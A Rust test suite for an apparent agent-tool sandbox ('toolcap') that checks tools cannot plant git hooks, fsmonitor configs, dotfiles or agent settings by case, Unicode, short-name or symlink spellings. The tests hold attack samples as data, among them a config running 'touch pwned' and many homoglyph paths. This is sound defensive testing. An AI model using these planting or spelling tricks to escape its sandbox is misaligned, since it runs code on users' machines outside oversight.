            stdout_of(&result).trim(),
            "0",
            "{mode:?}: an empty cover: {all}"
        );
    }
}

// guarantee: G-POL-10
/// A personality's `~` is the user's home directory, never the whole file system: where `HOME`
/// is `/` (a service account without a home, a container's default), `read = ["~"]` and
/// `write = ["~/out"]` granted `/` and `/out`, and a call read `/etc/hostname` and any other
/// file outside the floor. Such a personality is refused when it loads, saying why, by `call`,
/// `validate` and `explain`; one that writes its paths out still loads.
#[test]
fn a_home_of_slash_is_no_home_for_a_personalitys_tilde() {
    let env = Env::new("");
    let tilde = env.personality(
        "tilde.toml",
        "id = \"tilde\"\n[fs_reach]\nread = [\"~\"]\nwrite = [\"~/out\"]\n",
    );
    let run = |args: &[&str], home: &str| {
        Command::new(env!("CARGO_BIN_EXE_toolcap"))
            .args(args)
            .env("HOME", home)
            .env("XDG_DATA_HOME", env.root.join("data"))
            .env_remove("RUST_LOG")
            .current_dir(env.root.join("work"))
            .output()
            .unwrap()
    };
    let read = r#"{"path":"/etc/hostname"}"#;
    for args in [
        &["call", "--personality", &tilde, "read_file", read][..],
        &["validate", "--personality", &tilde][..],
        &["explain", "--personality", &tilde, "read_file", read][..],
    ] {
        for home in ["/", "/tmp/.."] {
            let out = run(args, home);
            let said = String::from_utf8_lossy(&out.stderr);
            assert_eq!(
                out.status.code(),
                Some(2),
                "{args:?} HOME={home}: {said}{}",
                String::from_utf8_lossy(&out.stdout)
            );
            assert!(said.contains("the home directory is /"), "{said}");
            assert!(
                out.stdout.is_empty(),
                "{}",
                String::from_utf8_lossy(&out.stdout)
            );
        }
    }
    // With a home, `~` is that home.
    let out = run(
        &[
            "call",
            "--personality",
            &tilde,
            "read_file",
            r#"{"path":"~/work/out"}"#,
        ],
        &env.root.display().to_string(),
    );
    assert!(!String::from_utf8_lossy(&out.stderr).contains("the home directory is /"));
}

// guarantee: G-PROC-02
/// A confined child has a temporary directory it may write: `TMPDIR` is its private scratch
/// home, which goes with the call. Before, it had none (`mktemp` failed with "Read-only file
/// system" on `/tmp`), and a program that must have one looked for it wherever it could write.
/// `/tmp` itself stays out of a child's reach, in both modes.
#[test]
fn a_child_has_a_private_temporary_directory_and_not_the_hosts() {
    let env = Env::new("");
    let script = "import json, os, subprocess, tempfile\n\
         made = subprocess.run(['mktemp'], capture_output=True, text=True)\n\
         home = os.environ['HOME']\n\
         try:\n\
         \x20   open('/tmp/toolcap-escape-probe', 'w')\n\
         \x20   tmp = 'written'\n\
         except OSError as e:\n\
         \x20   tmp = e.errno\n\
         print(json.dumps({'tmpdir': os.environ.get('TMPDIR'), 'home': home, 'made': made.stdout.strip(), 'code': made.returncode, 'gettempdir': tempfile.gettempdir(), 'tmp': tmp}))\n";
    for mode in MODES {
        let r = env.python_json(mode, script);
        let home = r["home"].as_str().unwrap();
        assert_eq!(r["tmpdir"], home, "{mode:?}: {r}");
        assert_eq!(r["code"], 0, "{mode:?}: {r}");
        assert!(
            r["made"].as_str().unwrap().starts_with(&format!("{home}/")),
            "{mode:?}: {r}"
        );
        assert_eq!(r["gettempdir"], home, "{mode:?}: {r}");
        assert_ne!(r["tmp"], "written", "{mode:?}: the host's /tmp: {r}");
        assert!(
            !Path::new(home).exists(),
            "{mode:?}: the scratch home goes with the call"
        );
    }
    assert!(!Path::new("/tmp/toolcap-escape-probe").exists());
}

// guarantee: G-FS-10
// guarantee: G-FS-11
/// A home's startup files and agents' configuration are often links into a dotfiles
/// repository (`~/.bashrc → dotfiles/bashrc`, `~/.claude → dotfiles/claude`, as GNU Stow and
/// the dotfiles managers make them). A personality that writes the dotfiles repository, and
/// lists none of those places, does not let a tool write them by their other names, in process
/// mode and in the capsule: the user's next shell, git or client would run it, outside any
/// sandbox (children: `capability-process`'s tests). The rest of the repository stays writable, and so
/// does a place the personality lists by either name.
#[test]
fn a_tool_cannot_plant_what_a_shell_or_an_agent_runs_through_its_dotfiles_links() {
    let env = Env::new("");
    let home = &env.root;
    let dots = home.join("dotfiles");
    for dir in ["git", "claude", "fish", "notes"] {
        std::fs::create_dir_all(dots.join(dir)).unwrap();
    }
    std::fs::create_dir_all(home.join(".config/git")).unwrap();
    let original = "# the user's own\n";
    for file in ["bashrc", "profile", "git/config", "claude/settings.json"] {
        std::fs::write(dots.join(file), original).unwrap();
    }
    let link = |target: &str, name: &str| {
        std::os::unix::fs::symlink(target, home.join(name)).unwrap();
    };
    link("dotfiles/bashrc", ".bashrc");
    link(&dots.join("profile").display().to_string(), ".profile");
    link("../../dotfiles/git/config", ".config/git/config");
    link("dotfiles/claude", ".claude");
    link("../dotfiles/fish", ".config/fish");
    let d = dots.display();
    let plain = env.personality(
        "dots.toml",
        &format!("id = \"dots\"\n[fs_reach]\nread = [\"{d}\"]\nwrite = [\"{d}\"]\n"),
    );
    let listed = env.personality(
        "listed.toml",
        &format!(
            "id = \"listed\"\n[fs_reach]\nread = [\"{d}\"]\nwrite = [\"{d}\", \"{h}/.bashrc\"]\n",
            h = home.display()
        ),
    );
    refuses_planting(
        &env,
        &plain,
        &dots,
        &[
            "bashrc",
            "profile",
            "git/config",
            "claude/settings.json",
            "claude/commands/deploy.md",
            "fish/config.fish",
        ],
        &["notes/todo.md", "README.md"],
        "by another name",
    );
    for mode in MODES {
        let path = dots.join("bashrc").display().to_string();
        let result = write_file(&env, mode, &listed, &path, original);
        assert_eq!(result["ok"], true, "{mode:?} listed: {result}");
    }
}

// guarantee: G-FS-09
/// A git directory need not be called `.git`: `git init --separate-git-dir` keeps it under a
/// name of its own (the working tree's `.git` a file pointing there), and a bare repository
/// (`backup.git`, the "bare repository" way of keeping dotfiles) is one whole. Git runs their
/// hooks and configuration when the user next runs git with them, outside any sandbox. A tool
/// may not write them, in both modes (children: `capability-process`'s tests); the rest stays
/// writable.
#[test]
fn a_tool_cannot_plant_a_hook_in_a_git_directory_of_another_name() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    let store = out.join("store");
    std::fs::create_dir_all(&store).unwrap();
    git_in(
        &out,
        &[
            "init",
            "-q",
            "--separate-git-dir",
            &store.join("svc").display().to_string(),
            "svc",
        ],
    );
    git_in(&out, &["init", "-q", "--bare", "backup.git"]);
    let o = out.display();
    let p = env.personality(
        "sep.toml",
        &format!("id = \"sep\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n"),
    );
    refuses_planting(
        &env,
        &p,
        &out,
        &[
            "store/svc/hooks/pre-commit",
            "store/svc/config",
            "store/svc/config.worktree",
            "backup.git/hooks/post-receive",
            "backup.git/config",
            "backup.git/commondir",
        ],
        &["svc/main.rs", "store/notes.md", "backup.git/README"],
        "is a git directory",
    );
}

// guarantee: G-FS-09
// guarantee: G-FS-10
// guarantee: G-FS-11
/// On a file system that does not tell case apart (Windows' drives under WSL, exFAT, ext4 or
/// tmpfs with casefold), `.CLAUDE/settings.json` is `.claude/settings.json`, `.Git/hooks` is
/// `.git/hooks` and `.BashRC` is `.bashrc`: the names of the places that run later are matched
/// without regard to ASCII case, so a tool's write of any spelling is refused. (Checked here on
/// a file system that does tell case apart: no case-folding one could be mounted on this machine,
/// whose kernel has no Unicode tables for casefold; on such a one the spellings are one file.)
#[test]
fn the_places_that_run_later_are_refused_in_every_case() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    let o = out.display();
    let p = env.personality(
        "cases.toml",
        &format!("id = \"cases\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n"),
    );
    for dir in [".Git/Hooks", ".CLAUDE", "pkg/.VSCode", ".Cargo"] {
        std::fs::create_dir_all(out.join(dir)).unwrap();
    }
    refuses_planting(
        &env,
        &p,
        &out,
        &[
            ".Git/Hooks/pre-commit",
            ".Git/CONFIG",
            ".CLAUDE/settings.json",
            "pkg/.VSCode/tasks.json",
            ".MCP.json",
            ".BashRC",
            ".Cargo/Config.toml",
            ".NPMRC",
        ],
        &["notes.MD", "Claude.md"],
        "write not permitted",
    );
}

// guarantee: G-FS-09
// guarantee: G-FS-10
// guarantee: G-FS-11
/// The file systems that do not tell case apart take more spellings for one name than ASCII
/// case: Linux's casefold folds `ſ` (long s) to `s`, the Kelvin sign `\u{212A}` to `k` and
/// the ligature `ﬁ` to `fi`; Windows upcases the dotless `ı` to `I`; HFS+ and the casefold of
/// Linux before 6.12 skip the characters nobody sees (a zero-width joiner, a byte-order mark);
/// Windows drops a name's trailing dots and spaces. So `.gıt/hooks/pre-commit`,
/// `.baſhrc`, `.gitconﬁg`, `.\u{212A}iro/hooks.json`, `.cla\u{200D}ude/settings.json` and
/// `.mcp.json.` are the places git, a shell or an agent's client runs on such a drive, and a
/// tool's write of each is refused, as git refuses `.gıt` in a tree (`core.protectNTFS`,
/// `core.protectHFS`). Before, ASCII case alone was folded, and each was written. (Here, where
/// names are told apart, each is a file of its own, refused all the same.)
#[test]
fn the_places_that_run_later_are_refused_by_every_spelling_a_drive_folds() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    let o = out.display();
    let p = env.personality(
        "folds.toml",
        &format!("id = \"folds\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n"),
    );
    for dir in [
        ".g\u{131}t/hooks",
        ".\u{212A}iro",
        ".cla\u{200D}ude",
        ".vscode\u{FEFF}",
        ".claude ",
        ".Ca\u{AD}rgo",
        "\u{17F}rc",
    ] {
        std::fs::create_dir_all(out.join(dir)).unwrap();
    }
    refuses_planting(
        &env,
        &p,
        &out,
        &[
            ".g\u{131}t/hooks/pre-commit",
            ".ba\u{17F}hrc",
            ".gitcon\u{FB01}g",
            ".bash_pro\u{FB01}le",
            ".\u{212A}iro/hooks.json",
            ".cla\u{200D}ude/settings.json",
            ".vscode\u{FEFF}/tasks.json",
            ".mcp.json.",
            ".claude /settings.json",
            ".Ca\u{AD}rgo/config.toml",
        ],
        &["caf\u{E9}.md", "notes.md.", "\u{17F}rc/main.rs"],
        "write not permitted",
    );
}

// guarantee: G-FS-09
// guarantee: G-FS-11
// guarantee: G-POL-03
/// A Windows drive that makes short names (8.3 names, on by default on a system drive) takes
/// `GIT~1` for `.git`, `CLAUDE~1` for `.claude`, `MCP~1.JSO` for `.mcp.json` and `ENV~1` for
/// `.env`, and so does WSL reaching it under `/mnt/c`: git refuses such names in a tree for
/// this reason (`core.protectNTFS`, on by default since 2.24.1, CVE-2019-1353). A tool's
/// write through a name of that form is refused, in both modes, and a read of a denied place
/// by its short name is refused as the place is. Names that only resemble one are written.
/// (Here, where no short names are made, each is a name of its own, refused all the same.)
#[test]
fn a_windows_short_name_is_not_another_way_to_the_places_kept() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    for dir in ["GIT~1/hooks", "CLAUDE~1", "pkg/VSCODE~2"] {
        std::fs::create_dir_all(out.join(dir)).unwrap();
    }
    std::fs::write(out.join("ENV~1"), "canary\n").unwrap();
    let o = out.display();
    let p = env.personality(
        "short.toml",
        &format!(
            "id = \"short\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\ndeny = [\"{o}/.env\"]\n"
        ),
    );
    refuses_planting(
        &env,
        &p,
        &out,
        &[
            "GIT~1/hooks/pre-commit",
            "CLAUDE~1/settings.json",
            "pkg/VSCODE~2/tasks.json",
            "MCP~1.JSO",
            "bashrc~1",
        ],
        &[
            "notes~draft.md",
            "file.txt~",
            "backup.~1~",
            "a~b",
            "x~1y.md",
        ],
        "write not permitted",
    );
    for mode in MODES {
        let read = read_file(&env, mode, &p, &out.join("ENV~1").display().to_string());
        assert_eq!(read["code"], "denied", "{mode:?}: {read}");
        assert!(!read.to_string().contains("canary"), "{mode:?}: {read}");
    }
}

// guarantee: G-POL-03
/// On a file system that does not tell case apart, `.ENV` is `.env`: a deny rule is matched in
/// any ASCII case, so a read or a write of another spelling of a denied place is refused, in
/// both modes (here, where case is told apart, `.ENV` is a file of its own, refused all the
/// same: a refusal too many, never one too few). Reach roots stay exact: a path spelled
/// otherwise than its root is outside it.
#[test]
fn a_deny_rule_holds_in_every_case() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    std::fs::create_dir_all(out.join("Secrets")).unwrap();
    std::fs::create_dir_all(out.join("\u{17F}ecrets")).unwrap();
    for dir in ["DONNÉES", "Données", "ПАРОЛИ"] {
        std::fs::create_dir_all(out.join(dir)).unwrap();
    }
    for file in [
        ".ENV",
        "Secrets/prod.KEY",
        "notes.md",
        ".env.",
        ".e\u{200B}nv",
        "\u{17F}ecrets/prod.key",
        "DONNÉES/plan.md",
        "Données/plan.md",
        "ПАРОЛИ/bank.txt",
    ] {
        std::fs::write(out.join(file), "canary\n").unwrap();
    }
    let o = out.display();
    let p = env.personality(
        "denied.toml",
        &format!(
            "id = \"denied\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n\
             deny = [\"{o}/.env\", \"{o}/secrets\", \"{o}/données\", \"{o}/пароли\"]\n"
        ),
    );
    for mode in MODES {
        for file in [
            ".ENV",
            "Secrets/prod.KEY",
            "SECRETS/prod.key",
            ".env.",
            ".e\u{200B}nv",
            "\u{17F}ecrets/prod.key",
            // Letters beyond ASCII in any case: a drive that does not tell case apart (WSL's
            // `/mnt/c`) takes `DONNÉES` for `données`, and `ПАРОЛИ` for `пароли`.
            "DONNÉES/plan.md",
            "Données/plan.md",
            "ПАРОЛИ/bank.txt",
        ] {
            let path = out.join(file).display().to_string();
            let read = read_file(&env, mode, &p, &path);
            assert_eq!(read["code"], "denied", "{mode:?} read {file}: {read}");
            assert!(!read.to_string().contains("canary"), "{mode:?}: {read}");
            let written = write_file(&env, mode, &p, &path, "planted\n");
            assert_eq!(
                written["code"], "denied",
                "{mode:?} write {file}: {written}"
            );
        }
        let fine = read_file(&env, mode, &p, &out.join("notes.md").display().to_string());
        assert_eq!(fine["ok"], true, "{mode:?}: {fine}");
    }
    assert_eq!(
        std::fs::read_to_string(out.join(".ENV")).unwrap(),
        "canary\n"
    );
}

// guarantee: G-FS-09
/// A git directory is told by what is in it, so a tool could make one in pieces: its
/// configuration first (`config` naming a program as `core.fsmonitor`, in a directory that is
/// no git directory yet, so nothing refused it), then the `HEAD` (or `commondir`) that makes the
/// directory one, beside an `objects` directory the project happened to have. The user's next
/// `git status` there, or anywhere beneath it, ran the program outside any sandbox (git's
/// default `safe.bareRepository` takes a bare repository it finds). The write that would make
/// a directory a git directory is refused, in both modes, and the user's git runs nothing; a
/// `HEAD` where nothing would make one, and a `config` beside it, are written.
#[test]
fn a_tool_cannot_assemble_a_git_directory_whose_configuration_it_wrote() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    let o = out.display();
    let p = env.personality(
        "assemble.toml",
        &format!("id = \"assemble\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n"),
    );
    let marker = env.root.join("pwned");
    let config = format!(
        "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = \"touch {}; false\"\n",
        marker.display()
    );
    for mode in MODES {
        let refused = |path: &Path, content: &str| {
            let result = write_file(&env, mode, &p, &path.display().to_string(), content);
            assert!(
                result["error"]
                    .as_str()
                    .is_some_and(|m| m.starts_with("PATH_NOT_REACHABLE: write not permitted")
                        && m.contains("would make")
                        && m.contains("a git directory")),
                "{mode:?} {}: {result}",
                path.display()
            );
            assert!(!path.exists(), "{mode:?}: {} was written", path.display());
        };
        let written = |path: &Path, content: &str| {
            let result = write_file(&env, mode, &p, &path.display().to_string(), content);
            assert_eq!(result["ok"], true, "{mode:?} {}: {result}", path.display());
        };
        // A project's `objects` and `refs`, then the configuration, then the HEAD.
        let src = out.join(format!("src{}", mode.len()));
        for sub in ["objects", "refs", "lib"] {
            std::fs::create_dir_all(src.join(sub)).unwrap();
        }
        written(&src.join("config"), &config);
        refused(&src.join("HEAD"), "ref: refs/heads/main\n");
        // A HEAD and the configuration, then a `commondir` naming a git directory for the rest.
        let linked = out.join(format!("linked{}", mode.len()));
        std::fs::create_dir_all(&linked).unwrap();
        written(&linked.join("HEAD"), "ref: refs/heads/main\n");
        written(&linked.join("config"), &config);
        refused(&linked.join("commondir"), &format!("{}\n", src.display()));
        for cwd in [src.clone(), src.join("lib"), linked.clone()] {
            let status = Command::new("git")
                .arg("status")
                .current_dir(&cwd)
                .env("GIT_CONFIG_GLOBAL", "/dev/null")
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .output()
                .unwrap();
            assert!(
                !marker.exists(),
                "{mode:?}: git in {} ran {status:?}",
                cwd.display()
            );
        }
        // Where nothing would make a git directory, a HEAD and a config are files like others.
        let plain = out.join(format!("notes{}", mode.len()));
        std::fs::create_dir_all(&plain).unwrap();
        for name in ["HEAD", "config"] {
            let path = plain.join(name).display().to_string();
            let result = write_file(&env, mode, &p, &path, "fine\n");
            assert_eq!(result["ok"], true, "{mode:?} {name}: {result}");
        }
    }
}

// guarantee: G-FS-09
// guarantee: G-FS-10
/// What runs later, reached through a symbolic link: a repository's `core.hooksPath` naming a
/// link (`.hooks-link` leading to `tools/hooks`), a link elsewhere in the working tree leading
/// into the configured hooks (`alias` to `.githooks`), and a link leading to a directory above a
/// place named by more than its last part (`cfg` to `.config`, so `cfg/git/config` is git's user
/// configuration). A tool may not write any of them by the name the link gives, nor by where
/// it leads, in both modes; beside them it writes.
#[test]
fn a_tool_cannot_plant_what_runs_later_through_a_link_to_it() {
    let env = Env::new("");
    let out = env.root.join("work/out");
    let svc = out.join("svc");
    std::fs::create_dir_all(svc.join("tools/hooks")).unwrap();
    git_in(&svc, &["init", "-q"]);
    git_in(&svc, &["config", "core.hooksPath", ".hooks-link"]);
    std::os::unix::fs::symlink("tools/hooks", svc.join(".hooks-link")).unwrap();
    let api = out.join("api");
    std::fs::create_dir_all(api.join(".githooks")).unwrap();
    git_in(&api, &["init", "-q"]);
    git_in(&api, &["config", "core.hooksPath", ".githooks"]);
    std::os::unix::fs::symlink(".githooks", api.join("alias")).unwrap();
    for hook in [
        svc.join("tools/hooks/pre-commit"),
        api.join(".githooks/pre-commit"),
    ] {
        std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
        std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755))
            .unwrap();
    }
    std::fs::create_dir_all(out.join(".config/git")).unwrap();
    std::fs::write(out.join(".config/git/config"), "[user]\n").unwrap();
    std::os::unix::fs::symlink(".config", out.join("cfg")).unwrap();
    let o = out.display();
    let p = env.personality(
        "links.toml",
        &format!("id = \"links\"\n[fs_reach]\nread = [\"{o}\"]\nwrite = [\"{o}\"]\n"),
    );
    refuses_planting(
        &env,
        &p,
        &out,
        &[
            "svc/tools/hooks/pre-commit",
            "svc/tools/hooks/pre-push",
            "svc/.hooks-link/pre-commit",
            "api/alias/pre-commit",
            "api/alias/post-merge",
        ],
        &["svc/tools/readme.md", "api/notes.md"],
        "core.hooksPath",
    );
    refuses_planting(
        &env,
        &p,
        &out,
        &["cfg/git/config"],
        &["cfg/notes.txt"],
        "reads it as it starts",
    );
    // `explain` answers as the call does (G-REG-09), through the links too.
    for (planted, why) in [
        ("api/alias/pre-commit", "which leads to"),
        ("cfg/git/config", "which leads to"),
        ("svc/tools/hooks/pre-commit", "core.hooksPath"),
    ] {
        let call =
            serde_json::json!({"path": out.join(planted).display().to_string(), "content": "x"})
                .to_string();
        let answer = env.toolcap(&["explain", "--personality", &p, "write_file", &call]);
        let answer: Value = serde_json::from_slice(&answer.stdout).unwrap();
        assert_eq!(answer["allowed"], false, "{planted}: {answer}");
        assert_eq!(
            answer["denial"], "PATH_NOT_REACHABLE",
            "{planted}: {answer}"
        );
        assert!(answer.to_string().contains(why), "{planted}: {answer}");
    }
}

// guarantee: G-PROC-02
/// What a child leaves in its `HOME` is removed however it built it: a tree deeper than the
/// host has descriptors (a removal that holds one open directory per level runs out of them
/// first), and directories whose owner took away their permissions (which stop the owner's
/// removal, not root's). Through the built binary with 64 descriptors and a chain of 600, as
/// `nobody` when the tests run as root, in both modes: once the call has returned and `toolcap`
/// has ended, the temporary directory it made the homes in holds nothing. (The removal runs as
/// `toolcap` ends, which waits for it one second: a tree that takes longer is left to the next
/// `toolcap`'s sweep, so the chain is kept short of that on a loaded machine.)
#[test]
fn what_a_child_leaves_in_its_home_is_removed_however_it_is_built() {
    use std::os::unix::fs::{PermissionsExt as _, chown};
    let env = Env::new("");
    let script = "import os\n\
                  home = os.environ['HOME']\n\
                  os.chdir(home)\n\
                  for _ in range(600):\n    os.mkdir('d')\n    os.chdir('d')\n\
                  open('deepest', 'w').write('x')\n\
                  os.chdir(home)\n\
                  os.makedirs('locked/inner')\n\
                  open('locked/inner/kept', 'w').write('x')\n\
                  os.symlink('/etc', 'locked/etc')\n\
                  os.chmod('locked/inner', 0)\n\
                  os.chmod('locked', 0o500)\n\
                  os.chmod(home, 0o500)\n\
                  print('built')\n";
    let call =
        serde_json::json!({"binary": "python3", "args": ["-c", script], "timeout_ms": 60_000})
            .to_string();
    // Run as `nobody` when root: root's removal is not stopped by permission bits.
    let bin = env.root.join("bin");
    std::fs::create_dir(&bin).unwrap();
    copy_program(
        Path::new(env!("CARGO_BIN_EXE_toolcap")),
        &bin.join("toolcap"),
    );
    let as_nobody = is_root();
    for dir in [&env.root, &env.root.join("work"), &bin] {
        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let p = env.root.join("p.toml");
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o644)).unwrap();
    for mode in MODES {
        let tmp = env.root.join(format!("tmp{}", mode.len()));
        let home = env.root.join(format!("home{}", mode.len()));
        for dir in [&tmp, &home] {
            std::fs::create_dir(dir).unwrap();
            if as_nobody {
                chown(dir, Some(65534), Some(65534)).unwrap();
            }
        }
        let mut command = Command::new("sh");
        command
            .arg("-c")
            .arg("ulimit -n 64 && exec \"$@\"")
            .arg("sh");
        if as_nobody {
            command.args([
                "setpriv",
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                "--",
            ]);
        }
        let out = command
            .arg(bin.join("toolcap"))
            .arg("call")
            .args(mode)
            .args(["--personality", p.to_str().unwrap(), "run_command", &call])
            .env("TMPDIR", &tmp)
            .env("HOME", &home)
            .env("XDG_DATA_HOME", home.join("data"))
            .env_remove("RUST_LOG")
            .current_dir(env.root.join("work"))
            .output()
            .unwrap();
        let said = printed(&out);
        assert_eq!(out.status.code(), Some(0), "{mode:?}: {said}");
        assert!(said.contains("built"), "{mode:?}: {said}");
        let left: Vec<_> = std::fs::read_dir(&tmp)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert!(left.is_empty(), "{mode:?}: left behind: {left:?}");
        assert!(
            Path::new("/etc/passwd").exists(),
            "a link's target is untouched"
        );
    }
}

// guarantee: G-PROC-02
/// A `TMPDIR` that is empty or relative does not put the children's homes in the working
/// directory: Rust's `temp_dir()` returns it as it is, so an empty one made every home a
/// directory of the project (in the tool's reach, and left there when `toolcap` is killed).
/// Toolcap takes `TMPDIR` only when it is an absolute path, `/tmp` otherwise, as the C library
/// does for an empty one; nothing is made in the working directory, in process mode and in the
/// capsule.
#[test]
fn an_empty_or_relative_tmpdir_puts_no_home_in_the_working_directory() {
    let env = Env::new("");
    let work = env.root.join("work");
    let p = env.root.join("p.toml").display().to_string();
    let call = serde_json::json!({"binary": "sh", "args": ["-c", "echo $HOME"]}).to_string();
    for (mode, tmpdir) in MODES
        .iter()
        .flat_map(|mode| ["", "relative", "."].map(|tmpdir| (mode, tmpdir)))
    {
        std::fs::create_dir_all(work.join("relative")).unwrap();
        let before: Vec<_> = std::fs::read_dir(&work)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        let out = env.command(
            Command::new(env!("CARGO_BIN_EXE_toolcap"))
                .arg("call")
                .args(*mode)
                .args(["--personality", &p, "run_command", &call])
                .env("TMPDIR", tmpdir),
        );
        let result: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "{mode:?} {tmpdir:?}: {e}: {}",
                String::from_utf8_lossy(&out.stderr)
            )
        });
        let home = stdout_of(&result);
        assert!(
            home.starts_with("/tmp/toolcap-home-"),
            "{mode:?} {tmpdir:?}: the child's HOME is {home:?}: {result}"
        );
        let after: Vec<_> = std::fs::read_dir(&work)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(
            after, before,
            "{mode:?} {tmpdir:?}: nothing made in the working directory"
        );
        assert_eq!(
            std::fs::read_dir(work.join("relative")).unwrap().count(),
            0,
            "{mode:?} {tmpdir:?}"
        );
    }
}

// guarantee: G-FS-14
/// `[fs_reach] deny_write` keeps places from writes and leaves them readable: a tool writes none
/// of them, in any spelling, in process mode and in the capsule, nor makes one where a `*`
/// stands; and a manifest records the rules, so that `diff` reports one dropped. (A confined
/// child with a write reach: `a_child_is_kept_from_what_the_policy_keeps_from_writes`.)
#[test]
fn what_a_policy_keeps_from_writes_is_kept_from_tools() {
    let env = Env::new("");
    let w = env.root.join("work");
    for file in [
        "out/defs/a/toolset.yaml",
        "out/defs/a/notes.md",
        "out/shared/x",
    ] {
        std::fs::create_dir_all(w.join(file).parent().unwrap()).unwrap();
        std::fs::write(w.join(file), "as it was\n").unwrap();
    }
    let rules = format!(
        "deny_write = [\"{w}/out/defs/*/toolset.yaml\", \"{w}/out/shared\"]",
        w = w.display()
    );
    let processes = "";
    let wide = env.personality(
        "wide.toml",
        &format!(
            "id = \"wide\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}/out\"]\n{rules}\n{processes}",
            w = w.display()
        ),
    );
    let kept = [
        "out/defs/a/toolset.yaml",
        "out/defs/a/TOOLSET.yaml",
        "out/defs/a/toolset.yaml.",
        "out/defs/new/toolset.yaml",
        "out/shared/x",
        "out/shared/y",
    ];
    for mode in MODES {
        for place in kept {
            let path = w.join(place).display().to_string();
            let result = write_file(&env, mode, &wide, &path, "- run_command\n");
            assert!(
                result["error"].as_str().is_some_and(
                    |m| m.starts_with("PATH_NOT_REACHABLE") && m.contains("deny_write")
                ),
                "{mode:?} {place}: {result}"
            );
        }
        let read = read_file(
            &env,
            mode,
            &wide,
            &w.join("out/defs/a/toolset.yaml").display().to_string(),
        );
        assert_eq!(read["value"], "as it was\n", "{mode:?}: {read}");
        let beside = w.join("out/defs/a/notes.md").display().to_string();
        assert_eq!(
            write_file(&env, mode, &wide, &beside, "n\n")["ok"],
            true,
            "{mode:?}"
        );
    }
    assert_eq!(
        std::fs::read_to_string(w.join("out/defs/a/toolset.yaml")).unwrap(),
        "as it was\n"
    );
    assert!(!w.join("out/defs/new").exists());
    assert!(!w.join("out/shared/y").exists());

    // The manifest records the rules; dropping one is a widening.
    let manifest = |personality: &str, name: &str| {
        let out = env.toolcap(&["manifest", "--personality", personality]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let path = env.root.join(name);
        std::fs::write(&path, &out.stdout).unwrap();
        path.display().to_string()
    };
    let before = manifest(&wide, "before.json");
    assert!(
        std::fs::read_to_string(&before)
            .unwrap()
            .contains("out/defs/*/toolset.yaml")
    );
    let loosened = env.personality(
        "loosened.toml",
        &format!(
            "id = \"wide\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}/out\"]\ndeny_write = [\"{w}/out/shared\"]\n{processes}",
            w = w.display()
        ),
    );
    let after = manifest(&loosened, "after.json");
    let diff = env.toolcap(&["diff", &before, &after]);
    let said = String::from_utf8_lossy(&diff.stdout);
    assert_eq!(diff.status.code(), Some(1), "{said}");
    assert!(
        said.contains("fs_reach.deny_write no longer") && said.contains("toolset.yaml"),
        "{said}"
    );
}
